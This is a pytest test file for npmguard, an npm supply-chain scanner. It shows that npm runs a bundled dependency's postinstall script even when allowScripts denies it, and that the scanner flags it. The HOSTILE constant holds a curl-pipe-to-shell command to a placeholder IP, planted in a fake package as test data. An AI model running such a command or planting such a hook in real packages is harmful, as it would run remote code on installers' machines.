"""Bundled dependencies' install scripts, with the real npm as the oracle: npm runs them
(``rebuild-bundle`` is on by default, ``allowScripts`` cannot stop them), so ``npmguard
check`` reports them on the package whose tarball carries them, from that tarball's bytes."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from fakeregistry import FakeRegistry
from npmoracle import needs_npm, npm, npm_env

from npmguard.cli import main

HOSTILE = "curl http://203.0.113.7/x.sh | sh"


def _publish(reg: FakeRegistry, marker: Path) -> None:
    reg.add_version("plain-pkg", "1.0.0")  # the registry's copy is harmless
    bundled = {
        "name": "plain-pkg",
        "version": "1.0.0",
        # the marker proves npm ran it; the curl never runs (the echo succeeds)
        "scripts": {"postinstall": f"echo ran > {marker} || {HOSTILE}"},
    }
    manifest = {
        "name": "bundler2",
        "version": "1.0.0",
        "dependencies": {"plain-pkg": "^1.0.0"},
        "bundleDependencies": ["plain-pkg"],
    }
    reg.add_version(
        "bundler2",
        "1.0.0",
        manifest={"bundleDependencies": ["plain-pkg"]},
        dependencies={"plain-pkg": "^1.0.0"},
        files={
            "package.json": json.dumps(manifest),
            "index.js": "module.exports = 1;\n",
            "node_modules/plain-pkg/package.json": json.dumps(bundled),
            "node_modules/plain-pkg/index.js": "module.exports = 2;\n",
        },
    )


@needs_npm
def test_bundled_postinstall_runs_in_npm_and_is_reported_on_its_parent(
    fake_registry: FakeRegistry,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    marker = tmp_path / "ran.txt"
    _publish(fake_registry, marker)
    root = tmp_path / "app"
    root.mkdir()
    manifest = {"name": "app", "version": "1.0.0", "dependencies": {"bundler2": "1.0.0"}}
    # npm's allowScripts denying both names changes nothing for the bundled copy
    manifest["allowScripts"] = {"bundler2": False, "plain-pkg": False}
    (root / "package.json").write_text(json.dumps(manifest))
    env = npm_env(tmp_path, f"registry={fake_registry.url}")
    done = npm(root, env, "install", "--package-lock-only")
    assert done.returncode == 0, done.stderr
    lock = json.loads((root / "package-lock.json").read_text())["packages"]
    # npm records the bundled entry without resolved/integrity, even in lock-only mode
    entry = lock["node_modules/bundler2/node_modules/plain-pkg"]
    assert entry == {"version": "1.0.0", "hasInstallScript": True, "inBundle": True}

    for key in list(os.environ):
        if key.lower().startswith("npm_config_"):
            monkeypatch.delenv(key)
    monkeypatch.setenv("NPM_CONFIG_USERCONFIG", str(tmp_path / "home" / ".npmrc"))
    main(["check", "--format", "json", "-q", str(root / "package-lock.json")])
    report = json.loads(capsys.readouterr().out)
    by_rule = {(f["rule"], f["package"]): f for f in report["findings"]}
    hostile = by_rule[("install-script-suspicious", "bundler2")]
    assert hostile["level"] == "block"
    where = {e["source"] for e in hostile["evidence"]}
    assert "node_modules/plain-pkg: scripts.postinstall" in where
    assert any(HOSTILE in e["value"] for e in hostile["evidence"])
    warned = by_rule[("install-script", "bundler2")]
    assert any(
        e["label"] == "bundled node_modules/plain-pkg script postinstall"
        for e in warned["evidence"]
    )
    # the bundled entry: reported from the lockfile, never cleared by the registry's copy
    assert ("install-script", "plain-pkg") in by_rule
    assert ("install-script-suspicious", "plain-pkg") not in by_rule

    # and npm does run it
    done = npm(root, env, "ci")
    assert done.returncode == 0, done.stderr
    assert marker.read_text().strip() == "ran"
